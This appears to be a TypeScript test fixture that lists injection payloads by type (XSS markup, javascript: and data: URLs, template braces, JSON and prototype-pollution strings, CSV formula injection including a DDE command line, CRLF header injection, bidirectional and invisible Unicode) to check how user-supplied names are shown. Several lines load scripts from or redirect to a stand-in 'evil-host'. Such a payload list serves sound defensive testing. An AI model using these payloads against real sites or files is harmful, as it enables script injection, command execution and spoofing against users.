/** What somebody may call themselves or a thing, or send along; `seen`: what of it is read wherever it stands. */
export type Payload = { text: string; seen: string };

const evil = "evil-host";

const markup = [
  "<script>pwned=1</script>",
  `<script src=//${evil}/x></script>`,
  '"><svg id=pwned onload=pwned=1>',
  "<svg id=pwned><script>pwned=1</script></svg>",
  "<svg id=pwned><animate onbegin=pwned=1 attributeName=x dur=1s>",
  '<svg id=pwned><a xlink:href="javascript:pwned=1"><rect width=9 height=9>',
  "<img id=pwned src=x onerror=pwned=1>",
  "' onmouseover='pwned=1' onfocus='pwned=1' autofocus x='",
  "</title></textarea></style></script></pre></details><iframe id=pwned srcdoc='<script>parent.pwned=1</script>'>",
  "<!--><math id=pwned><mtext><style><img src=x onerror=pwned=1>",
  "--><a id=pwned href=javascript:pwned=1>x</a>",
  `<base id=pwned href=//${evil}/>`,
  `<meta id=pwned http-equiv=refresh content=0;url=//${evil}/>`,
  `<link id=pwned rel=stylesheet href=//${evil}/x>`,
  "<template id=pwned shadowrootmode=open><slot>",
  "&lt;script&gt;pwned=1&lt;/script&gt;&#60;b&#62;",
  "]]><![CDATA[<b id=pwned>",
];

const addresses = [
  "javascript:pwned=1",
  "JaVaScRiPt:pwned=1//",
  "data:text/html,<script>pwned=1</script>",
  `//${evil}/x`,
  `\\\\${evil}\\x`,
  "../../../../sign-out",
];

const braces = [
  "{actor}",
  "{actor",
  "'{actor}'",
  "{0, plural, one {#} other {##}}",
  "{n, number, ::currency/EUR}",
  "{role, select, other {{actor}}}",
  "<b>{x}</b>",
  "${process}",
];

const json = ['"},{"pwned":true,"x":"', '\\"}', "__proto__", "constructor"];

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "=cmd|' /C calc'!A0",
  "  =1+2",
  "\t=1+3",
  " \t =1+4",
  "\r=1+5",
  "\n=1+6",
  "\u00A0=1+7",
  "\u200B=1+8",
  "\u202E=1+9",
  "＝1+1",
  '"=2+1',
  '",=2+2,"',
  'x",=2+3\r\n=2+4,"',
  "'=2+5",
];

const lines = [
  "first\r\nSet-Cookie: pwned=1",
  "first\r\n\r\n<script>pwned=1</script>",
  "first\u2028second\u2029third\u0085fourth",
  "first%0d%0aSet-Cookie:%20pwned=1",
  // Cut down to their low bytes, these two are CR and LF.
  "first\u560D\u560ASet-Cookie: pwned=1",
  "first\u001B[2Jsecond\u009B31m\u0007",
];

const directions = [
  "first\u202Egpj.exe",
  "first\u2066second\u2069\u2069 third",
  "first\u2067second",
  "\u200Ffirst\u061C(1)\u200E",
  "first\u202D\u202B\u202Csecond",
  "אבג (1) דה",
  "123 مرحبا 45%!",
];

const hidden = [
  "first\u200Bsecond\u2060third\uFEFF",
  "fir\u00ADst\u034F\u180E",
  "first\u{E0041}\u{E007F}\u3164\u115F",
  "first\u200Dsecond\u200Cthird\uFE0F",
];

/** What is read of a payload wherever the rest of it is taken out, folded or written as its escape. */
function seenOf(text: string): string {
  const [first = ""] = text
    .trim()
    .split(/[^\p{L}\p{N}\p{P}\p{S} ]|\s{2,}|\p{Default_Ignorable_Code_Point}/u)
    .filter((part) => part.trim() !== "");
  return first.trim();
}

function toPayloads(texts: readonly string[]): Payload[] {
  return texts.map((text) => ({ text, seen: seenOf(text) }));
}

/** By what they try. */
export const payloads = {
  markup: toPayloads(markup),
  addresses: toPayloads(addresses),
  braces: toPayloads(braces),
  json: toPayloads(json),
  formulas: toPayloads(formulas),
  lines: toPayloads(lines),
  directions: toPayloads(directions),
  hidden: toPayloads(hidden),
};

/** It tries nothing, and shows what the views are like by themselves. */
export const harmless: Payload = { text: "harmless words", seen: "harmless words" };
